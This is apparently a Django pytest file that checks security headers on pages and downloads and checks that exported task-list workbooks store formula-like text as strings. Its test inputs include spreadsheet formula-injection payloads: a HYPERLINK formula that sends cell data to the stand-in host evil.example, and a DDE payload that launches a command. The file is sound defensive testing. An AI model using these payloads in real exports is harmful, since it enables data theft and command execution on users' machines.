"""Security headers on pages and downloads, and exported workbooks that cannot run formulas."""

import io

import openpyxl
import pytest
from django.test import Client

from tests.factories import EvidenceFactory, ProgressUpdateFactory, TaskFactory

pytestmark = pytest.mark.django_db


def signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def directives(response) -> dict[str, list[str]]:
    policy = response["Content-Security-Policy"]
    return {part.split()[0]: part.split()[1:] for part in policy.split(";") if part.strip()}


@pytest.mark.parametrize("path", ["/accounts/login/", "/tasks/", "/dashboard/", "/documents/import/"])
def test_pages_carry_a_policy_that_allows_only_the_sites_own_scripts(office, insurance_task, path):
    response = signed_in(office).get(path)
    assert response.status_code == 200
    policy = directives(response)
    assert policy["script-src"] == ["'self'"]
    assert policy["style-src"] == ["'self'"]
    assert policy["object-src"] == ["'none'"]
    assert policy["frame-ancestors"] == ["'none'"]
    assert "'unsafe-inline'" not in response["Content-Security-Policy"]
    assert "'unsafe-eval'" not in response["Content-Security-Policy"]
    assert response["X-Frame-Options"] == "DENY"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"] == "same-origin"


def test_the_task_page_has_no_inline_script_or_style(office, insurance_task):
    html = signed_in(office).get(f"/tasks/{insurance_task.pk}/").content.decode()
    assert "<script>" not in html
    assert " style=" not in html
    assert "<style" not in html


@pytest.fixture
def evidence(insurance_task, liaison):
    return EvidenceFactory(update=ProgressUpdateFactory(task=insurance_task, author=liaison))


def test_evidence_downloads_are_attachments_that_browsers_must_not_sniff(office, evidence):
    response = signed_in(office).get(f"/evidence/{evidence.pk}/download/")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    b"".join(response.streaming_content)


def test_evidence_downloads_through_the_api_too(api_client, office, evidence):
    response = api_client(office).get(f"/api/v1/evidence/{evidence.pk}/download/")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_the_task_list_export_keeps_formula_like_text_as_text(office, zhengzhou_document, text):
    TaskFactory(document=zhengzhou_document, position=1, text=text)
    response = signed_in(office).get("/tasks/export.xlsx")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == text]
    assert cells, "the text is exported as written"
    for cell in cells:
        assert cell.data_type == "s"  # a string, never a formula ("f")
